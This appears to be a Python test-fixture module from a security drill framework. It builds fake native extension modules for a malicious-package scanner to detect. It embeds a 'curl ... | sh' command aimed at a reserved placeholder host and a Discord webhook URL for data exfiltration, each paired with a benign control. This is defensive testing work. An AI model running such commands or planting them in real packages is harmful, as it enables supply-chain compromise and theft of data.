"""Extension modules that hold what an attacker says to a shell. They are tables and strings without an instruction.

Sources: MITRE ATT&CK T1059.004 (Unix shell), T1567.004 (exfiltration over a webhook). Hosts are reserved names (RFC 2606).
"""

from __future__ import annotations

from pathlib import Path

from pratique.drill.attack import Attack, AttackPath
from pratique.drill.elf_writer import library

COMMAND = b"/bin/sh -c 'curl -s https://drill.invalid/i | sh'"
WEBHOOK = b"https://discord.com/api/webhooks/100000000000000000/" + b"pratique-drill-" * 4


def _extension(folder: Path, imports: tuple[str, ...], data: tuple[bytes, ...]) -> None:
    (folder / "drill").mkdir(parents=True)
    (folder / "drill" / "__init__.py").write_text("from drill import _native\n")
    (folder / "drill" / "_native.abi3.so").write_bytes(library(imports, data))


ATTACKS = (
    Attack(
        "package/native-downloader",
        "an extension module holds a command that runs what it downloads",
        AttackPath.LIBRARY,
        ("package/native-command",),
        lambda folder: _extension(folder, ("system", "malloc"), (COMMAND,)),
        lambda folder: _extension(folder, ("system", "malloc"), (b"https://drill.invalid/docs",)),
        True,
        "_native.abi3.so",
        ("CWE-506", "LLM03:2025"),
    ),
    Attack(
        "package/native-webhook",
        "an extension module posts to a chat with a secret of its own",
        AttackPath.LIBRARY,
        ("package/native-command",),
        lambda folder: _extension(folder, ("connect", "send"), (WEBHOOK,)),
        lambda folder: _extension(folder, ("connect", "send"), (b"https://discord.com/api/webhooks/",)),
        True,
        "_native.abi3.so",
        ("CWE-506", "LLM03:2025"),
    ),
)
